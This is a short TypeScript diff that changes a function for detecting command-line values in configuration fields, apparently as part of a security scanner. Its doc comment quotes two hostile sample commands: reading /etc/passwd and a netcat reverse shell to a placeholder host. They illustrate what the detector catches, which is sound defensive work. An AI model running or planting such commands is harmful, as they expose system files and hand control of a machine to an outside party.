@@ -14,11 +14,10 @@ const commandLineLengthMax = 512;
 const commandFields = ["command", "cmd", "args", "script", "entrypoint", "run", "exec", "shell"];
 
 /** Judges a value that is as a whole a command line: `cat /etc/passwd`, `nc -e /bin/sh host 80`. */
-export function judgeCommandLine(field: Field): Match | undefined {
-  const { value } = field;
+export function judgeCommandLine(field: Field, value: string): Match | undefined {
   if (value.length > commandLineLengthMax) return undefined;
-  if (isFolderExpansion(value)) {
-    const explanation = `The value "${value}" is what a shell replaces by the name of its working folder.`;
+  if (isFolderExpansion(field.value)) {
+    const explanation = `The value "${field.value}" is what a shell replaces by the name of its working folder.`;
     return { confidence: "medium", start: 0, end: value.length, explanation };
   }
   if (!mayBeginCommand(value)) return undefined;
